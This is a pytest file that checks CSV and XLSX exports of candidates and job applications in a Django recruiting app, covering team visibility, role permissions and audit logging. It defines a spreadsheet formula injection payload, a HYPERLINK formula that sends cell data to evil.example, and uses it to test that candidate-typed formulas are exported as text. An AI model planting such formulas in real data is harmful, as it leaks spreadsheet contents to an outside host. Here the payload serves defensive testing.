"""Exporting candidates and a job's applications to CSV and XLSX: only what the viewer may see, formulas
neutralised, and the export in the audit log."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from rekrut.events.models import AuditEvent
from tests.pipeline.factories import application_make

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example?"&A1,"CV")'


def csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def xlsx_sheet(response):
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


@pytest.fixture
def people(personas, team_a_job, team_b_job):
    dewi = application_make(job=team_a_job, full_name="Dewi Lestari", email="dewi@example.com")
    rudi = application_make(job=team_b_job, full_name="Rudi Hartono", email="rudi@example.com")
    evil = application_make(job=team_a_job, full_name=EVIL, email="evil@example.com")
    # Dewi also applied to team B's job: team A must not learn that from an export.
    application_make(job=team_b_job, candidate=dewi.candidate)
    return dewi, rudi, evil


def test_a_recruiter_exports_only_the_candidates_and_applications_they_may_see(client_for, personas, people):
    response = client_for(personas.recruiter).get(reverse("desk:candidates_export", args=["csv"]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="rekrut-candidates-')
    assert response["Cache-Control"] == "private, no-store"
    rows = csv_rows(response)
    names = {row[1] for row in rows[1:]}
    assert "Dewi Lestari" in names and "Rudi Hartono" not in names
    dewi = next(row for row in rows if row[1] == "Dewi Lestari")
    assert "Staf Keuangan" not in dewi[9]  # team B's job stays team B's business
    assert dewi[2] == "dewi@example.com"


def test_an_hr_admin_exports_everyone(client_for, personas, people):
    rows = csv_rows(client_for(personas.hr_admin).get(reverse("desk:candidates_export", args=["csv"])))
    assert {"Dewi Lestari", "Rudi Hartono"} <= {row[1] for row in rows[1:]}
    dewi = next(row for row in rows if row[1] == "Dewi Lestari")
    assert "Staf Keuangan" in dewi[9]


def test_formulas_typed_by_a_candidate_are_written_as_text(client_for, personas, people):
    client = client_for(personas.recruiter)
    rows = csv_rows(client.get(reverse("desk:candidates_export", args=["csv"])))
    assert "'" + EVIL in {row[1] for row in rows}
    sheet = xlsx_sheet(client.get(reverse("desk:candidates_export", args=["xlsx"])))
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    evil = next(cell for cell in cells if cell.value == EVIL)
    assert evil.data_type == "s" and evil.quotePrefix  # text, not a formula


def test_the_export_follows_the_list_filters(client_for, personas, people):
    response = client_for(personas.recruiter).get(reverse("desk:candidates_export", args=["csv"]) + "?q=dewi")
    assert [row[1] for row in csv_rows(response)[1:]] == ["Dewi Lestari"]


@pytest.mark.parametrize("persona", ["hiring_manager", "interviewer", "director", "outsider"])
def test_only_hr_exports_candidates(client_for, personas, people, persona):
    response = client_for(getattr(personas, persona)).get(reverse("desk:candidates_export", args=["csv"]))
    assert response.status_code == 403


def test_a_job_s_applications_are_exported_for_hr_on_its_team(client_for, personas, team_a_job, people):
    client = client_for(personas.recruiter)
    response = client.get(reverse("desk:applications_export", args=[team_a_job.pk, "xlsx"]))
    assert response.status_code == 200
    sheet = xlsx_sheet(response)
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    assert header[:3] == ["ID lamaran", "ID kandidat", "Nama lengkap"] or header[:3] == [
        "Application ID",
        "Candidate ID",
        "Full name",
    ]
    names = [row[2].value for row in sheet.iter_rows(min_row=2)]
    assert sorted(names) == sorted(["Dewi Lestari", EVIL])
    assert AuditEvent.objects.filter(action="job.applications_exported").count() == 1


def test_another_team_s_job_cannot_be_exported(client_for, personas, team_b_job, people):
    client = client_for(personas.recruiter)
    assert client.get(reverse("desk:applications_export", args=[team_b_job.pk, "csv"])).status_code == 404
    interviewer = client_for(personas.interviewer)
    response = interviewer.get(reverse("desk:applications_export", args=[people[0].job_id, "csv"]))
    assert response.status_code == 403


def test_an_unknown_file_type_is_not_found(client_for, personas, people):
    assert (
        client_for(personas.hr_admin).get(reverse("desk:candidates_export", args=["pdf"])).status_code == 404
    )


def test_a_candidates_export_is_in_the_audit_log(client_for, personas, people):
    client_for(personas.recruiter).get(reverse("desk:candidates_export", args=["csv"]) + "?q=dewi")
    event = AuditEvent.objects.get(action="candidates.exported")
    assert event.changes["count"] == 1 and event.changes["filters"] == {"query": "dewi"}


def test_the_export_buttons_are_on_the_candidates_list_and_the_board(
    client_for, personas, team_a_job, people
):
    client = client_for(personas.recruiter)
    assert (
        reverse("desk:candidates_export", args=["xlsx"])
        in client.get(reverse("desk:candidates")).content.decode()
    )
    board = client.get(reverse("desk:board", args=[team_a_job.pk])).content.decode()
    assert reverse("desk:applications_export", args=[team_a_job.pk, "xlsx"]) in board
